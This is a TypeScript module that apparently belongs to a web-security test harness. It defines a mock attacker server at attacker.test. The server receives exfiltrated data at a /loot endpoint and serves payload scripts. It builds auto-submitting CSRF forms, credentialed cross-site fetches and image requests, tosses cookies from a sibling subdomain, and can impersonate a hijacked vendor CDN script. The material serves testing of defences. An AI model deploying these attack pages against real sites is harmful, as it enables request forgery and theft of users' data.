/** What the attacker runs: a site of its own, a subdomain of the victim's, and, once taken over, a vendor's script. */
import type { IncomingMessage, ServerResponse } from 'node:http';
import { text } from 'node:stream/consumers';
import { payloadScript, type Payload } from './payloads.ts';

interface VendorScript {
  readonly cell: string;
  readonly payload: Payload;
}

export interface Attacker {
  /** For `attacker.test` and for every `evil-sibling.SITE`. */
  handle(request: IncomingMessage, response: ServerResponse): Promise<void>;
  /** For `cdn.vendor.test`. */
  handleVendor(request: IncomingMessage, response: ServerResponse): void;
  /** What arrived for a cell, as it came. */
  loot(cell: string): readonly string[];
  /** `Referer` headers, newest last. */
  readonly referers: string[];
  /** From now on the vendor's script is this one for pages of the host; undefined: the vendor's own. */
  takeOverVendor(host: string, script: VendorScript | undefined): void;
}

export function createAttacker(origin: string): Attacker {
  const loot = new Map<string, string[]>();
  const referers: string[] = [];
  const takenOver = new Map<string, VendorScript>();
  const lootUrl = (cell: string) => `${origin}/loot?cell=${cell}`;

  const handle = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const url = new URL(request.url ?? '/', origin);
    const { searchParams } = url;
    const cell = searchParams.get('cell') ?? '';
    const target = searchParams.get('target') ?? '';
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    if (request.headers.referer !== undefined) referers.push(request.headers.referer);
    switch (url.pathname) {
      case '/loot':
        loot.set(cell, [...(loot.get(cell) ?? []), await text(request)]);
        return void response.writeHead(204).end();
      case '/script.js':
        response.setHeader('Content-Type', 'text/javascript');
        return void response.end(payloadScript(searchParams.get('payload') ?? '', lootUrl(cell), cell));
      case '/form':
        return void response.end(
          `<form method="post" action="${target}"><input name="to" value="${cell}"></form><script>document.forms[0].submit()</script>`,
        );
      case '/image':
        return void response.end(
          `<img src="${target}?to=${cell}" onload="document.title='done'" onerror="document.title='done'">`,
        );
      case '/fetch':
        return void response.end(`<script>
          fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ to: ${JSON.stringify(cell)} }) })
            .finally(() => (document.title = 'done'));</script>`);
      case '/link':
        return void response.end(`<a href="${target}?to=${cell}">A page that you want to see</a>`);
      case '/toss':
        response.setHeader('Set-Cookie', searchParams.getAll('set'));
        return void response.end(
          `<script>for (const text of ${JSON.stringify(searchParams.getAll('set'))}) document.cookie = text</script>`,
        );
      default:
        return void response.end('<title>attacker</title>');
    }
  };

  return {
    handle,
    handleVendor: (request, response) => {
      response.setHeader('Content-Type', 'text/javascript');
      const { referer } = request.headers;
      const script = referer === undefined ? undefined : takenOver.get(new URL(referer).hostname);
      response.end(script && payloadScript(script.payload, lootUrl(script.cell), script.cell));
    },
    loot: (cell) => loot.get(cell) ?? [],
    referers,
    takeOverVendor: (host, script) => {
      if (script) takenOver.set(host, script);
      else takenOver.delete(host);
    },
  };
}
